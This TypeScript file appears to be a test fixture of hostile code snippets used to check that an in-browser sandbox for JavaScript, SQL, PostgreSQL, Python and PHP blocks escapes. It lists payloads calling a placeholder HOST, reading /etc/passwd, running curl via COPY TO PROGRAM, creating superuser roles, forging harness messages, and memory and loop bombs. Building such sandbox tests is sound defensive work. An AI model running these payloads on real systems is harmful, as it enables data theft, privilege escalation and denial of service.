/** For JavaScript, the code is the body of an async function. `HOST` is the listening server. */
export interface HostileCard {
  name: string;
  code: string;
  /** Outside of the frame, this code reaches the server. Proves that the attempt is a real one. */
  reachesServer?: true;
  /** Ends at a limit that does not depend on the browser, often with a new start of its runtime. */
  exhausts?: true;
}

const network = (name: string, code: string): HostileCard => ({ name, code, reachesServer: true });
const attack = (name: string, code: string): HostileCard => ({ name, code });
const exhausting = (name: string, code: string): HostileCard => ({ name, code, exhausts: true });

export const hostileJavaScript: readonly HostileCard[] = [
  network('fetch', `await fetch('http://HOST/fetch')`),
  network(
    'fetch without CORS',
    `await fetch('http://HOST/no-cors', { mode: 'no-cors', credentials: 'include' })`,
  ),
  network(
    'fetch that outlives its page',
    `await fetch('http://HOST/keepalive', { method: 'POST', body: 'x', keepalive: true })`,
  ),
  network(
    'a Request object',
    `await fetch(new Request('http://HOST/request', { method: 'POST', body: 'x' }))`,
  ),
  network(
    'a streamed WebAssembly module',
    `await WebAssembly.compileStreaming(fetch('http://HOST/module.wasm'))`,
  ),
  network(
    'XMLHttpRequest',
    `const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/xhr'); x.send(); await new Promise((r) => { x.onloadend = r })`,
  ),
  network(
    'a synchronous XMLHttpRequest',
    `const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/sync', false); x.send()`,
  ),
  network(
    'WebSocket',
    `const w = new WebSocket('ws://HOST/socket'); await new Promise((r) => { w.onopen = w.onerror = r })`,
  ),
  network(
    'EventSource',
    `const e = new EventSource('http://HOST/events'); await new Promise((r) => { e.onopen = e.onerror = r })`,
  ),
  network('importScripts', `importScripts('http://HOST/imported.js')`),
  network('import()', `await import('http://HOST/module.js')`),
  network('a font', `await new FontFace('x', 'url(http://HOST/font.woff2)').load()`),
  network(
    'a nested worker',
    `const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/nested').finally(() => postMessage(1))"]))); await new Promise((r) => { w.onmessage = w.onerror = r })`,
  ),
  network(
    'a nested worker that imports',
    `const w = new Worker(URL.createObjectURL(new Blob(["try { importScripts('http://HOST/nested.js') } finally { postMessage(1) }"]))); await new Promise((r) => { w.onmessage = w.onerror = r })`,
  ),
  network(
    'a module from a blob that imports',
    `await import(URL.createObjectURL(new Blob(["import 'http://HOST/static.js'"], { type: 'text/javascript' })))`,
  ),
  attack('WebSocketStream', `await new WebSocketStream('ws://HOST/stream').opened`),
  attack('WebTransport', `await new WebTransport('https://HOST/transport').ready`),
  attack(
    'WebRTC',
    `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise((r) => setTimeout(r, 300))`,
  ),
  attack('fetchLater', `fetchLater('http://HOST/later', { activateAfter: 0 })`),
  attack('sendBeacon', `navigator.sendBeacon('http://HOST/beacon', 'x')`),
  attack('an image', `new Image().src = 'http://HOST/image.png'`),
  attack('a worker from elsewhere', `new Worker('http://HOST/worker.js')`),
  attack('a shared worker', `new SharedWorker('http://HOST/shared.js')`),
  attack('a service worker', `await navigator.serviceWorker.register('http://HOST/service.js')`),
  attack('a cache that fetches', `const c = await caches.open('x'); await c.add('http://HOST/cached')`),
  attack('an import from a data URL', `await import('data:text/javascript,fetch("http://HOST/data")')`),
  attack('navigating itself', `location.href = 'http://HOST/location'`),
  attack('navigating the page', `top.location = 'http://HOST/top'`),
  attack('opening a window', `open('http://HOST/open')`),
  attack(
    'a form',
    `const f = document.createElement('form'); f.action = 'http://HOST/form'; document.body.append(f); f.submit()`,
  ),
  attack('a notification', `new Notification('x', { icon: 'http://HOST/icon.png' })`),
  attack(
    'the API of this site',
    `const r = await fetch('/api/v1/users/me', { credentials: 'include' }); throw new Error(await r.text())`,
  ),
  attack('localStorage', `localStorage.setItem('stolen', '1')`),
  attack('sessionStorage', `sessionStorage.setItem('stolen', '1')`),
  attack('cookies', `document.cookie = 'stolen=1'`),
  attack('the cookie store', `await cookieStore.set('stolen', '1')`),
  attack(
    'IndexedDB',
    `const q = indexedDB.open('stolen'); await new Promise((r) => { q.onsuccess = q.onerror = r })`,
  ),
  attack(
    'the private file system',
    `const d = await navigator.storage.getDirectory(); await d.getFileHandle('stolen', { create: true })`,
  ),
  attack('the cache storage', `await caches.open('stolen')`),
  attack('BroadcastChannel', `new BroadcastChannel('flipstack').postMessage('stolen')`),
  attack('locks', `await navigator.locks.request('stolen', () => new Promise((r) => setTimeout(r, 100)))`),
  attack('the parent’s document', `parent.document.title = 'stolen'`),
  attack('the top’s storage', `top.localStorage.setItem('stolen', '1')`),
  attack('the opener', `opener.document.title = 'stolen'`),
  attack('frames', `frames[0].document.title = frameElement.ownerDocument.title = 'stolen'`),
  attack(
    'a forged message to the page',
    `parent.postMessage({ kind: 'message', worker: '', nonce: '', text: '{"kind":"done"}' }, '*')`,
  ),
  attack(
    'a forged result',
    `postMessage('{"kind":"test","index":0,"run":{"got":"1","output":"","durationMs":1}}'); postMessage('{"kind":"done"}')`,
  ),
  attack(
    'a forged result of another shape',
    `postMessage({ kind: 'loaded' }); postMessage(null); postMessage(Symbol.iterator)`,
  ),
  attack('a message flood', `for (let i = 0; i < 1e5; i++) postMessage('x')`),
  attack('a message of 64 MB', `postMessage('x'.repeat(2 ** 26))`),
  attack('a deeply nested message', `let x = 0; for (let i = 0; i < 5000; i++) x = [x]; postMessage(x)`),
  attack('a message with a million objects', `postMessage(Array.from({ length: 1e5 }, (_, i) => ({ i })))`),
  attack('eval', `eval('self.stolen = 1'); (0, eval)('1')`),
  attack('Function', `Function('return this')().stolen = 1`),
  attack(
    'a constructor’s constructor',
    `[].map.constructor('return this')().stolen = (async () => {}).constructor('return 1')`,
  ),
  attack('a timer of text', `setTimeout('self.stolen = 1')`),
  attack(
    'the prototype of all objects',
    `Object.prototype.kind = 'done'; Object.prototype.get = Object.prototype.set = () => {}; Object.prototype.got = '1'`,
  ),
  attack(
    'the prototype of arrays',
    `Array.prototype.push = Array.prototype.map = Array.prototype[Symbol.iterator] = () => { throw 1 }`,
  ),
  attack('JSON', `JSON.stringify = JSON.parse = () => '{"kind":"done"}'`),
  attack('promises', `Promise.prototype.then = (f) => f(1); Promise.resolve = () => 1; Promise = class {}`),
  attack(
    'Error',
    `Error.prepareStackTrace = () => { throw 1 }; Error.prototype.toString = null; Object.defineProperty(Error.prototype, 'message', { get() { for (;;); } }); throw new Error('x')`,
  ),
  attack(
    'frozen built-ins',
    `Object.freeze(globalThis); Object.freeze(Object.prototype); Object.freeze(Array.prototype)`,
  ),
  attack(
    '__proto__',
    `const o = JSON.parse('{"__proto__":{"stolen":1},"constructor":{"prototype":{"stolen":1}}}'); return o`,
  ),
  attack('a thenable', `return { then(done) { for (let i = 0; i < 1000; i++) done({ then: this.then }) } }`),
  attack(
    'toJSON and valueOf',
    `return { toJSON: () => 'stolen', valueOf: () => { throw 1 }, [Symbol.toPrimitive]: () => { throw 2 } }`,
  ),
  attack('a throwing proxy', `throw new Proxy(new Error('x'), { get() { throw new Error('y') } })`),
  attack('a class without a prototype', `throw Object.create(null)`),
  attack('an endless loop', `for (;;);`),
  attack('a loop that catches', `for (;;) { try { for (;;); } catch { continue } finally { continue } }`),
  attack(
    'a promise flood',
    `const f = () => { Promise.resolve().then(f); Promise.resolve().then(f) }; f(); await new Promise(() => {})`,
  ),
  attack(
    'a timer flood',
    `const f = () => { setTimeout(f); setTimeout(f) }; f(); await new Promise(() => {})`,
  ),
  attack(
    'an error flood',
    `for (let i = 0; i < 1000; i++) setTimeout(() => { throw new Error('x'.repeat(1e4)) })`,
  ),
  attack('a rejection flood', `for (let i = 0; i < 1000; i++) Promise.reject(new Error('x'))`),
  attack(
    'a memory bomb of arrays',
    `const all = []; for (let i = 0; i < 2000; i++) all.push(new Array(1e5).fill(i))`,
  ),
  attack('a memory bomb of strings', `let s = 'x'; for (let i = 0; i < 40; i++) s += s; return s.length`),
  attack(
    'a memory bomb of buffers',
    `const all = []; for (let i = 0; i < 64; i++) all.push(new ArrayBuffer(2 ** 26))`,
  ),
  attack(
    'a memory bomb of WebAssembly',
    `const all = []; for (;;) all.push(new WebAssembly.Memory({ initial: 65536 }))`,
  ),
  attack('a stack overflow', `const f = () => f() + 1; f()`),
  attack('a regular expression that backtracks', `/^(a|a)*$/.test('a'.repeat(40) + 'b')`),
  attack('a large number', `return 2n ** 1000000n > 7n ** 500000n`),
  attack('an output flood', `for (let i = 0; i < 3000; i++) console.debug('x'.repeat(1000))`),
  attack('a wait that never ends', `Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0)`),
  attack(
    'a worker flood',
    `for (let i = 0; i < 20; i++) new Worker(URL.createObjectURL(new Blob(['for (;;);'])))`,
  ),
  attack('closing itself', `close()`),
];

const hostileSql: readonly HostileCard[] = [
  attack('attaching a file', `ATTACH 'stolen' AS stolen`),
  attack('attaching a URI', `ATTACH 'file:stolen?vfs=kvvfs' AS stolen`),
  attack('writing a file', `VACUUM INTO 'stolen'`),
  attack('reading a file', `SELECT readfile('/etc/passwd')`),
  attack('an extension', `SELECT load_extension('http://HOST/x')`),
  attack('raising the limit of memory', `PRAGMA hard_heap_limit = 0`),
  attack('the schema', `PRAGMA writable_schema = ON; UPDATE sqlite_schema SET sql = ''`),
  attack(
    'an endless recursion',
    `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT max(i) FROM n`,
  ),
  attack(
    'a memory bomb',
    `WITH RECURSIVE n(i, x) AS (SELECT 1, zeroblob(9000000) UNION ALL SELECT i + 1, zeroblob(9000000) FROM n LIMIT 99) SELECT * FROM n a, n b ORDER BY 2`,
  ),
  attack('a blob of a gigabyte', `SELECT zeroblob(1000000000)`),
  attack(
    'a flood of rows',
    `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i FROM n`,
  ),
  attack('a deep expression', `SELECT ${'('.repeat(3000)}1${')'.repeat(3000)}`),
  attack('what is left behind', `CREATE TABLE stolen (x); CREATE TEMP TABLE also_stolen (x); SELECT 1`),
];

const hostilePostgresql: readonly HostileCard[] = [
  attack('reading a file', `SELECT pg_read_file('/etc/passwd')`),
  attack('writing a file', `COPY (SELECT 'stolen') TO '/tmp/stolen'`),
  attack('a process', `COPY (SELECT 1) TO PROGRAM 'curl http://HOST/program'`),
  attack('a server elsewhere', `CREATE EXTENSION dblink; SELECT dblink_connect('host=HOST')`),
  attack('a foreign server', `CREATE EXTENSION postgres_fdw; SELECT 1`),
  attack('a subscription', `CREATE SUBSCRIPTION s CONNECTION 'host=HOST dbname=x' PUBLICATION p`),
  attack('a library', `LOAD '/tmp/stolen.so'`),
  attack('another user', `SET SESSION AUTHORIZATION postgres; SELECT 1`),
  attack('a setting of the server', `ALTER SYSTEM SET max_stack_depth = '1GB'`),
  attack('a role', `CREATE ROLE stolen SUPERUSER LOGIN`),
  attack('the end of the transaction', `CREATE TABLE stolen (x int); COMMIT; SELECT 1`),
  attack('another transaction', `CREATE TABLE stolen (x int); COMMIT; BEGIN; SELECT 1`),
  exhausting('an endless loop', `DO $$ BEGIN LOOP END LOOP; END $$`),
  exhausting(
    'an endless recursion',
    `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT 1 FROM n) SELECT max(i) FROM n`,
  ),
  exhausting(
    'a function that calls itself',
    `CREATE FUNCTION f() RETURNS int AS 'SELECT f()' LANGUAGE sql; SELECT f()`,
  ),
  exhausting('a memory bomb', `SELECT string_agg(repeat('x', 10000000), '') FROM generate_series(1, 100)`),
  exhausting('a flood of rows', `SELECT generate_series(1, 1000000000)`),
  exhausting('a flood of notices', `DO $$ BEGIN FOR i IN 1..9999 LOOP RAISE NOTICE 'x'; END LOOP; END $$`),
  exhausting('a deep expression', `SELECT ${'('.repeat(30_000)}1${')'.repeat(30_000)}`),
  attack(
    'what is left behind',
    `CREATE TABLE stolen (x int); CREATE TEMP TABLE also_stolen (x int); PREPARE stolen AS SELECT 1; SET search_path = ''; SELECT 1`,
  ),
];

const hostilePython: readonly HostileCard[] = [
  attack('the page’s JavaScript', `import js; js.fetch('http://HOST/js')`),
  attack('JavaScript as text', `from pyodide.code import run_js; run_js("fetch('http://HOST/run_js')")`),
  attack(
    'the API of Pyodide',
    `import pyodide_js; pyodide_js.constructor.constructor("return this")().fetch('http://HOST/api')`,
  ),
  attack(
    'JavaScript’s prototypes',
    `import js; js.Object.constructor('return fetch("http://HOST/constructor")')()`,
  ),
  attack(
    'the worker’s messages',
    `import js; js.Object.constructor('return this')().postMessage('{"kind":"done"}')`,
  ),
  attack('an HTTP library', `from pyodide.http import open_url; open_url('http://HOST/open_url')`),
  attack('urllib', `import urllib.request; urllib.request.urlopen('http://HOST/urllib')`),
  attack('a socket', `import socket; socket.create_connection(tuple('HOST'.split(':')))`),
  attack('a package from elsewhere', `import pyodide_js; pyodide_js.loadPackage('http://HOST/package.whl')`),
  attack('a file', `open('/etc/passwd').read()`),
  attack('a process', `import subprocess; subprocess.run(['ls'])`),
  attack('memory by address', `import ctypes; ctypes.string_at(0, 10**9)`),
  attack('replaced built-ins', `import builtins; builtins.len = builtins.print = lambda *a: 7`),
  attack('a replaced module', `import json, sys; json.dumps = None; sys.modules['collections'] = 7`),
  attack('a replaced method', `import collections; collections.Counter.__getitem__ = lambda *a: 7`),
  attack('a trace of the runner', `import sys; sys.settrace(lambda *a: 1 / 0)`),
  exhausting('an endless loop', `while True: pass`),
  exhausting('a memory bomb', `x = [0]\n  while True: x += x`),
  exhausting('a stack overflow', `import sys; sys.setrecursionlimit(10 ** 9); f = lambda: f(); f()`),
  exhausting('an output flood', `for _ in range(20000): print('x' * 100)`),
];

const hostilePhp: readonly HostileCard[] = [
  attack('JavaScript as text', `return vrzno_eval("fetch('http://HOST/eval')");`),
  attack('a function of JavaScript', `return vrzno_run('fetch', ['http://HOST/run']);`),
  attack('the bridge to JavaScript', `return (new Vrzno)->fetch('http://HOST/bridge');`),
  attack('the worker’s messages', `return (new Vrzno)->postMessage('{"kind":"done"}');`),
  attack('a module', `return vrzno_await(vrzno_import('http://HOST/module.js'));`),
  attack('a timer of JavaScript', `vrzno_timeout(0, fn() => 1); return 1;`),
  attack('the bridge by reflection', `return (new ReflectionClass('Vrzno'))->newInstance()->close();`),
  attack('a database in JavaScript', `return new PDO('pglite:idb://stolen');`),
  attack('an address as a file', `return file_get_contents('http://HOST/file');`),
  attack(
    'a request',
    `return file_get_contents('http://HOST/post', false, stream_context_create(['http' => ['method' => 'POST', 'content' => 'x']]));`,
  ),
  attack('an allowed address', `ini_set('allow_url_fopen', '1'); return fopen('http://HOST/allowed', 'r');`),
  attack('code from elsewhere', `return include 'http://HOST/code.php';`),
  attack('a copy', `return copy('http://HOST/copy', '/tmp/stolen');`),
  attack('a server of files', `return file_get_contents('ftp://HOST/x');`),
  attack('a socket', `return fsockopen(...explode(':', 'HOST'));`),
  attack('a stream', `return stream_socket_client('tcp://HOST');`),
  attack('a mail', `return mail('a@HOST', 'b', 'c');`),
  attack('a file', `return file_get_contents('/etc/passwd');`),
  attack('the settings', `return file_put_contents('/php.ini', 'disable_functions =');`),
  attack('all files', `ini_set('open_basedir', '/'); return implode(scandir('/'));`),
  attack('a process', `return shell_exec('ls');`),
  attack('a process with pipes', `return proc_open('ls', [], $pipes);`),
  attack('an extension', `return dl('stolen.so');`),
  attack(
    'what is left behind',
    `eval('function stolen() {}'); putenv('STOLEN=1'); touch('/tmp/stolen'); ini_set('precision', 2); stream_wrapper_unregister('file'); return 1;`,
  ),
  attack('the runner’s own code', `return file_put_contents('/card/main.php', '<?php return 7;');`),
  attack('the runner’s own class', `eval('namespace Flipstack; class Harness {}');`),
  attack(
    'handlers and buffers',
    `set_error_handler(fn() => exit); set_exception_handler(fn() => exit); ob_start(fn() => str_repeat('x', 9999)); throw new Error;`,
  ),
  attack(
    'endless code at the end',
    `register_shutdown_function(function () { while (true); }); return 'unreachable';`,
  ),
  attack('the end of the script', `exit('unreachable');`),
  exhausting('an endless loop', `while (true) { try { throw new Error; } catch (Throwable) { continue; } }`),
  exhausting('a memory bomb', `$x = [0]; while (true) $x = [...$x, ...$x];`),
  exhausting(
    'a memory bomb without a limit',
    `ini_set('memory_limit', '-1'); $x = 'x'; while (true) $x .= $x;`,
  ),
  exhausting('a recursion', `return attack() + 1;`),
  exhausting('a stack overflow', `return array_map('attack', [1]);`),
  attack(
    'a regular expression that backtracks',
    `ini_set('pcre.backtrack_limit', '2000000000'); return preg_match('/^(a|a)*$/', str_repeat('a', 40) . 'b');`,
  ),
  exhausting('an output flood', `for ($i = 0; $i < 100000; $i++) echo str_repeat('x', 1000);`),
  exhausting(
    'a flood of files',
    `$i = 0; while (file_put_contents('/tmp/' . $i++, str_repeat('x', 1000000)));`,
  ),
  attack(
    'a large file',
    `return fseek($f = fopen('/tmp/x', 'w'), 2000000000) + (int) ftruncate($f, 2000000000);`,
  ),
];

/** All hostile cards, by the language of the runtime that they attack. */
export const hostileCards = [
  ['javascript', hostileJavaScript],
  ['sql', hostileSql],
  ['postgresql', hostilePostgresql],
  ['python', hostilePython],
  ['php', hostilePhp],
] as const;
